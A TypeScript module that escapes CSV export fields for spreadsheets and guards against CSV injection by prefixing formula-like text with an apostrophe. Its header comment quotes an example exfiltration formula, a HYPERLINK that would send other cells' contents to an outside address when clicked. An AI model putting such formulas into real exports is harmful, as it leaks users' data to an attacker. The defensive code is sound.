/**
 * CSV as spreadsheets open it (RFC 4180): UTF-8 with a byte-order mark (so
 * Excel reads Kazakh and Russian), CRLF line ends, a field quoted when it
 * holds a comma, a quote, a line break or leading/trailing space, quotes doubled.
 *
 * Text a spreadsheet would take for a formula (starting with =, +, -, @, a tab
 * or a carriage return) gets a leading apostrophe, as OWASP advises against CSV
 * injection: a hostile "reporter" could type =HYPERLINK("https://…?"&B2) as an
 * account, and a documentation lead opening the file would send the names in
 * the other cells to them with one click. Numbers stay numbers; JSON is unchanged.
 */
import type { Cell } from "./export-columns.js";

export const BOM = "\uFEFF";

const FORMULA_START = /^[=+\-@\t\r]/;

export function csvField(cell: Cell): string {
  if (cell === null) return "";
  const text = typeof cell === "string" && FORMULA_START.test(cell) ? `'${cell}` : String(cell);
  return /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record, CRLF included. */
export const csvLine = (cells: readonly Cell[]) => `${cells.map(csvField).join(",")}\r\n`;
